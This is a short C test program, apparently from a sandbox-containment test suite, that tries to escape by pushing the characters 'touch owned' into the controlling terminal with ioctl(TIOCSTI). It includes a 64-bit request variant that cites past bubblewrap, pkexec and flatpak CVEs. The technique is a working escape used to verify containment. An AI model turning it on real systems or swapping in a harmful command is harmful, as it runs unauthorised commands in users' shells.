/*
 * Idea: ioctl(TIOCSTI) pushes characters into a terminal's input as if they had been typed. Sharing the terminal of
 * the shell that started us means typing the commands that it runs when we are gone.
 * Incident: CVE-2017-5226 (bubblewrap), CVE-2016-2568 (pkexec), CVE-2019-10063 (flatpak's filter compared all 64 bits
 * of the request, the kernel looks at 32).
 * Success: the ioctl is accepted.
 * Usage: tiocsti (with a terminal as one of its descriptors 0 to 2, or as /dev/tty)
 */
#include "attempt.h"
#include <sys/ioctl.h>

static void type_into(int terminal, const char *name) {
  static const unsigned long requests[] = {TIOCSTI, TIOCSTI | 1ul << 32};
  for (size_t i = 0; i < 2; i++) {
    const char *typed = "touch owned\n";
    long result = 0;
    for (; *typed && result == 0; typed++) result = syscall(SYS_ioctl, terminal, requests[i], typed);
    if (result == 0) escaped("typed a command into %s", name);
    stopped("ioctl(%s, %#lx)", name, requests[i]);
  }
}

int main(void) {
  int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (terminal >= 0) type_into(terminal, "/dev/tty");
  else stopped("open /dev/tty");
  for (int descriptor = 0; descriptor < 3; descriptor++) {
    char name[16];
    snprintf(name, sizeof name, "descriptor %d", descriptor);
    if (isatty(descriptor)) type_into(descriptor, name);
  }
  contained();
}
